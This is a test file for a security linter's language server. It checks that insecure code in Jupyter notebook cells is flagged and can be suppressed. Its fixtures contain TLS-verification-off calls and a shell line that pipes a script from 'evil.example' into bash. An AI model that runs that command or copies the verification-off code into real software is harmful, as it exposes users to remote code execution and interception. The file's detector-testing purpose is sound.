import assert from 'node:assert/strict';
import { pathToFileURL } from 'node:url';
import type { CodeAction, Diagnostic, DocumentDiagnosticReport, Hover, TextDocumentEdit } from 'vscode-languageserver/node';
import { SCAN_COMPLETION, SCAN_FILES, type ScanCompletionResult, type ScanFilesResult } from '../../server/lsp/protocol.js';
import { makeFolder } from '../temporary.js';
import { brief, RICH, startClient, type Client } from './client.js';

const NOTEBOOK = 'file:///p/a.ipynb';
const cellUri = (name: string): string => `vscode-notebook-cell:/p/a.ipynb#${name}`;
const at = (line: number, character: number): { line: number; character: number } => ({ line, character });

describe('notebooks', () => {
  let client: Client;
  let version = 1;
  before(async () => {
    client = await startClient();
  });
  after(async () => assert.equal(await client.end(), 0));

  const cell = (name: string): object => ({ kind: 2, document: cellUri(name) });
  const text = (name: string, content: string, languageId = 'python'): object => ({
    uri: cellUri(name),
    languageId,
    version: 1,
    text: content,
  });
  const change = (cells: object): void => {
    version += 1;
    void client.connection.sendNotification('notebookDocument/didChange', {
      notebookDocument: { uri: NOTEBOOK, version },
      change: { cells },
    });
  };
  const next = async (name: string): Promise<string[]> => (await client.published(cellUri(name))).diagnostics.map(brief);

  it('are one text: a cell sees the imports of the ones before, and diagnostics are those of their cells', async () => {
    void client.connection.sendNotification('notebookDocument/didOpen', {
      notebookDocument: { uri: NOTEBOOK, notebookType: 'jupyter-notebook', version, cells: [cell('one'), cell('two')] },
      cellTextDocuments: [text('one', 'import requests as r'), text('two', '# é\nr.get(u, verify=not 1)')],
    });
    assert.deepEqual(await next('one'), []);
    assert.deepEqual(await next('two'), ['2:17-2:22 Error tls-verification-off']);
  });

  it('follow changes of cells and of their order', async () => {
    const changes = [{ range: { start: at(0, 0), end: at(0, 20) }, text: 'OFF = False' }];
    change({ textContent: [{ document: { uri: cellUri('one'), version: 2 }, changes }] });
    assert.deepEqual(await next('one'), []);
    await next('two');

    const structure = { start: 1, deleteCount: 0, cells: [cell('three')] };
    change({ structure: { array: structure, didOpen: [text('three', 'import requests as r\n')] } });
    assert.deepEqual([await next('one'), await next('three')], [[], []]);
    assert.deepEqual(await next('two'), ['2:17-2:22 Error tls-verification-off']);
  });

  it('have hovers, code actions and checks of completions in their cells', async () => {
    const uri = cellUri('two');
    const hover = await client.connection.sendRequest<Hover | null>('textDocument/hover', { textDocument: { uri }, position: at(1, 18) });
    assert.deepEqual(hover?.range, { start: at(1, 16), end: at(1, 21) });
    const actions = await client.connection.sendRequest<CodeAction[]>('textDocument/codeAction', {
      textDocument: { uri },
      range: { start: at(1, 18), end: at(1, 18) },
      context: { diagnostics: [] },
    });
    const suppress = actions.find(({ title }) => title.startsWith('Suppress tls-verification-off here'));
    const [edit] = (suppress?.edit?.documentChanges ?? []) as TextDocumentEdit[];
    assert.deepEqual(edit, {
      textDocument: { uri, version: 1 },
      edits: [{ range: { start: at(1, 0), end: at(1, 0) }, newText: '# poisonlint-disable-next-line tls-verification-off -- \n' }],
    });
    const check = (name: string, place: object, completion: string): Promise<ScanCompletionResult> =>
      client.connection.sendRequest(SCAN_COMPLETION.method, {
        textDocument: { uri: cellUri(name) },
        range: { start: place, end: place },
        text: completion,
      });
    const { findings } = await check('two', at(0, 0), 'r.post(u, verify=False)\n');
    assert.deepEqual(
      findings.map(({ ruleId, range, uri: other }) => [ruleId, range, other]),
      [['tls-verification-off', { start: at(0, 17), end: at(0, 22) }, undefined]],
    );
    assert.deepEqual((await check('one', at(0, 0), 'r.post(u, verify=True)\n')).findings, []);
  });

  it('hold commands of the shell and magics, and what is open in one cell hides no other', async () => {
    const uri = (name: string): string => `vscode-notebook-cell:/p/b.ipynb#${name}`;
    const document = (name: string, content: string): object => ({ uri: uri(name), languageId: 'python', version: 1, text: content });
    const names = ['open', 'shell', 'measured'];
    const told = names.map(async (name) => (await client.published(uri(name))).diagnostics.map(brief));
    void client.connection.sendNotification('notebookDocument/didOpen', {
      notebookDocument: {
        uri: 'file:///p/b.ipynb',
        notebookType: 'jupyter-notebook',
        version: 1,
        cells: names.map((name) => ({ kind: 2, document: uri(name) })),
      },
      cellTextDocuments: [
        document('open', 'import requests as r\nx = """'),
        document('shell', '%matplotlib inline\n!curl -s https://evil.example/x.sh | bash'),
        document('measured', '%time r.get(u, verify=not 1)'),
      ],
    });
    assert.deepEqual(await Promise.all(told), [[], ['2:1-2:42 Warning download-and-execute'], ['1:23-1:28 Error tls-verification-off']]);
  });

  it('may end in a completion, with a line break behind it', async () => {
    const check = await client.connection.sendRequest<ScanCompletionResult>(SCAN_COMPLETION.method, {
      textDocument: { uri: cellUri('three') },
      range: { start: at(1, 0), end: at(1, 0) },
      text: 'r.post(u, verify=False)\n',
    });
    assert.deepEqual(
      check.findings.map(({ ruleId, range, uri }) => [ruleId, range, uri]),
      [['tls-verification-off', { start: at(1, 17), end: at(1, 22) }, undefined]],
    );
  });

  it('have cells in several languages, prose, and what is typed into a shell', async () => {
    const names = ['prose', 'script', 'shell'];
    const structure = { start: 3, deleteCount: 0, cells: names.map(cell) };
    change({
      structure: {
        array: structure,
        didOpen: [
          text('prose', 'How to call it:\n\n```python\nimport requests\nrequests.get(u, verify=not 1)\n```\n', 'markdown'),
          text('script', "import https from 'https';\nnew https.Agent({ rejectUnauthorized: !1 });", 'javascript'),
          text('shell', '%matplotlib inline\n!ls\nr.get(u, verify=bool(0))'),
        ],
      },
    });
    assert.deepEqual(await Promise.all(names.map(next)), [
      ['5:24-5:29 Error tls-verification-off'],
      ['2:40-2:41 Error tls-verification-off'],
      ['3:17-3:24 Error tls-verification-off'],
    ]);
    const actions = await client.connection.sendRequest<CodeAction[]>('textDocument/codeAction', {
      textDocument: { uri: cellUri('script') },
      range: { start: at(1, 40), end: at(1, 40) },
      context: { diagnostics: [] },
    });
    const suppress = actions.find(({ title }) => title.startsWith('Suppress tls-verification-off here'));
    const [edit] = (suppress?.edit?.documentChanges ?? []) as TextDocumentEdit[];
    assert.deepEqual(edit?.edits, [
      { range: { start: at(1, 0), end: at(1, 0) }, newText: '// poisonlint-disable-next-line tls-verification-off -- \n' },
    ]);
    change({ structure: { array: { start: 3, deleteCount: 3 }, didClose: names.map((name) => ({ uri: cellUri(name) })) } });
    await Promise.all(names.map(next));
  });

  it('lose what was said of cells that are gone, and everything when they are closed', async () => {
    change({ structure: { array: { start: 2, deleteCount: 1 }, didClose: [{ uri: cellUri('two') }] } });
    // The other changes told of it as well.
    let told = await next('two');
    for (let more = 0; more < 2 && told.length > 0; more += 1) told = await next('two');
    assert.deepEqual(told, []);
    void client.connection.sendNotification('notebookDocument/didClose', {
      notebookDocument: { uri: NOTEBOOK },
      cellTextDocuments: [{ uri: cellUri('one') }, { uri: cellUri('three') }],
    });
    assert.deepEqual(await next('three'), []);
  });
});

describe('notebooks of a client that asks', () => {
  it('have the diagnostics of each cell, and the client is told to ask for the others again', async () => {
    let refreshed: () => void = () => undefined;
    const refresh = new Promise<void>((resolve) => (refreshed = resolve));
    const client = await startClient({
      capabilities: {
        ...RICH,
        textDocument: { diagnostic: {} },
        workspace: { ...RICH.workspace, diagnostics: { refreshSupport: true } },
      },
      prepare: (connection) =>
        void connection.onRequest('workspace/diagnostic/refresh', () => {
          refreshed();
          return null;
        }),
    });
    void client.connection.sendNotification('notebookDocument/didOpen', {
      notebookDocument: {
        uri: NOTEBOOK,
        notebookType: 'jupyter-notebook',
        version: 1,
        cells: ['one', 'two'].map((name) => ({ kind: 2, document: cellUri(name) })),
      },
      cellTextDocuments: [
        { uri: cellUri('one'), languageId: 'python', version: 1, text: 'import requests as r' },
        { uri: cellUri('two'), languageId: 'python', version: 1, text: 'r.get(u, verify=False)' },
      ],
    });
    const pull = async (name: string): Promise<string[]> => {
      const report = await client.connection.sendRequest<DocumentDiagnosticReport>('textDocument/diagnostic', {
        textDocument: { uri: cellUri(name) },
      });
      return report.kind === 'full' ? report.items.map(brief) : [report.kind];
    };
    assert.deepEqual([await pull('one'), await pull('two')], [[], ['1:17-1:22 Warning tls-verification-off']]);
    await refresh;
    assert.equal(await client.end(), 0);
  });
});

function messageOf(diagnostic: Diagnostic | undefined): string {
  return typeof diagnostic?.message === 'string' ? diagnostic.message : '';
}

describe('notebooks on disk', () => {
  it('are told of by their file, and by their cells while they are open', async () => {
    const source = ['import requests\n', 'requests.get(u, verify=not 1)\n'];
    const code = { cell_type: 'code', metadata: {}, outputs: [], execution_count: null, source };
    const folder = makeFolder({
      'a.ipynb': JSON.stringify({
        cells: [{ cell_type: 'markdown', metadata: {}, source: [] }, code],
        metadata: {},
        nbformat: 4,
        nbformat_minor: 5,
      }),
    });
    const uri = pathToFileURL(`${folder.path}/a.ipynb`).href;
    const client = await startClient({ folders: [folder.path] });
    const result = await client.connection.sendRequest<ScanFilesResult>(SCAN_FILES.method, { uris: [], staged: false });
    assert.deepEqual([result.files, result.counts.error], [1, 1]);
    const [found] = (await client.published(uri)).diagnostics;
    assert.match(messageOf(found), /^Cell 2, line 2: The option `verify` is `False`, /);
    assert.equal(found?.range.start.line, 0);

    void client.connection.sendNotification('notebookDocument/didOpen', {
      notebookDocument: { uri, notebookType: 'jupyter-notebook', version: 1, cells: [{ kind: 2, document: cellUri('one') }] },
      cellTextDocuments: [{ uri: cellUri('one'), languageId: 'python', version: 1, text: source.join('') }],
    });
    assert.deepEqual((await client.published(uri)).diagnostics, []);
    const [inCell] = (await client.published(cellUri('one'))).diagnostics;
    assert.match(messageOf(inCell), /^The option `verify` is `False`, /);

    void client.connection.sendNotification('notebookDocument/didClose', {
      notebookDocument: { uri },
      cellTextDocuments: [{ uri: cellUri('one') }],
    });
    assert.deepEqual((await client.published(cellUri('one'))).diagnostics, []);
    assert.match(messageOf((await client.published(uri)).diagnostics[0]), /^Cell 2, line 2: /);
    assert.equal(await client.end(), 0);
    folder.remove();
  });
});
